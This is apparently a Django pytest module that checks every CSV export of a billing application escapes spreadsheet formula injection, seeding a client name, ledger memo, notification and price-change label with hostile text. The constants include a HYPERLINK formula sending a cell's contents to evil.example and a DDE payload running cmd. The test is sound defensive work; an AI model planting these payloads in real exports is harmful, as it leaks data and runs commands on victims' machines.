"""Every CSV export, fed a client, a memo, a notification and a price change written to run as
spreadsheet formulas: no cell of any export starts like a formula unless it is a plain
number, and the hostile text comes out quoted."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.test import Client

from subaccounts.pricing.models import BillableItem
from subaccounts.pricing.services import price_set
from tests.factories import EntryFactory
from wallets.payments.models import Notification
from wallets.payments.notifications import notification_send

from .conftest import tenant_create

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
MEMO = "@SUM(1+1)*cmd|' /C calc'!A0"
MESSAGE = "+1+1 overdue"
ACTOR = "-2+3 pricing bot"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

# (who downloads, URL with {sa} the client and {inv} its invoice, hostile text it carries)
EXPORTS = [
    ("agency_admin", "/agency/clients/?export=csv", NAME),
    ("agency_admin", "/billing/?export=clients", NAME),
    ("agency_admin", "/billing/?export=items", None),
    ("agency_admin", "/billing/clients/{sa}/ledger.csv", MEMO),
    ("agency_admin", "/billing/invoices/?format=csv", NAME),
    ("agency_admin", "/billing/invoices/{inv}.csv", NAME),
    ("agency_admin", "/billing/statement/?format=csv", None),
    ("agency_admin", "/agency/clients/{sa}/wallet/?format=csv", None),
    ("agency_admin", "/agency/notifications/?format=csv", MESSAGE),
    ("agency_admin", "/agency/notifications/?format=csv", NAME),
    ("agency_admin", "/agency/settings/rebilling/prices.csv", None),
    ("agency_admin", "/agency/settings/rebilling/history/?export=csv", ACTOR),
    ("agency_admin", "/agency/settings/rebilling/history/?export=csv", NAME),
    ("agency_admin", "/agency/clients/{sa}/billing/history/?export=csv", ACTOR),
    ("client_admin", "/client/{sa}/billing/usage.csv", MEMO),
    ("client_admin", "/client/{sa}/billing/invoices/{inv}.csv", NAME),
    ("client_admin", "/client/{sa}/payments/?format=csv", None),
]


@pytest.fixture
def hostile(db):
    tenant = tenant_create("Hostile", usage=True)
    sub_account = tenant.sub_account
    sub_account.name = NAME
    sub_account.itemised_usage_visible = True
    sub_account.save(update_fields=["name", "itemised_usage_visible"])
    EntryFactory(wallet=sub_account.wallet, kind="adjustment", amount=Decimal("-1.25"),
                 memo=MEMO)
    notification_send(agency=tenant.agency, sub_account=sub_account,
                      kind=Notification.Kind.PAYMENT_FAILED, message=MESSAGE,
                      dedupe_key=f"hostile:{sub_account.pk}", email_agency=False)
    price_set(sub_account=sub_account, item=BillableItem.objects.get(code="sms_outbound"),
              price="0.06", subsidize=True, actor_label=ACTOR)
    return tenant


def _cells(response) -> list[str]:
    body = (b"".join(response.streaming_content) if response.streaming
            else response.content).decode()
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


@pytest.mark.parametrize(("role", "url", "carried"), EXPORTS)
def test_no_export_cell_can_run_as_a_formula(hostile, role, url, carried):
    client = Client()
    client.force_login(hostile.users[role])
    response = client.get(url.format(sa=hostile.sub_account.pk, inv=hostile.invoice.pk))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    cells = _cells(response)
    assert cells, "the export is empty"
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)
            and not PLAIN_NUMBER.fullmatch(cell)] == []
    if carried is not None:
        assert any(cell.startswith(f"'{carried}") for cell in cells), cells


def test_negative_amounts_stay_numbers_in_the_ledger_export(hostile):
    client = Client()
    client.force_login(hostile.users["agency_admin"])
    cells = _cells(client.get(f"/billing/clients/{hostile.sub_account.pk}/ledger.csv"))
    assert "-1.250000" in cells and "-3.500000" in cells
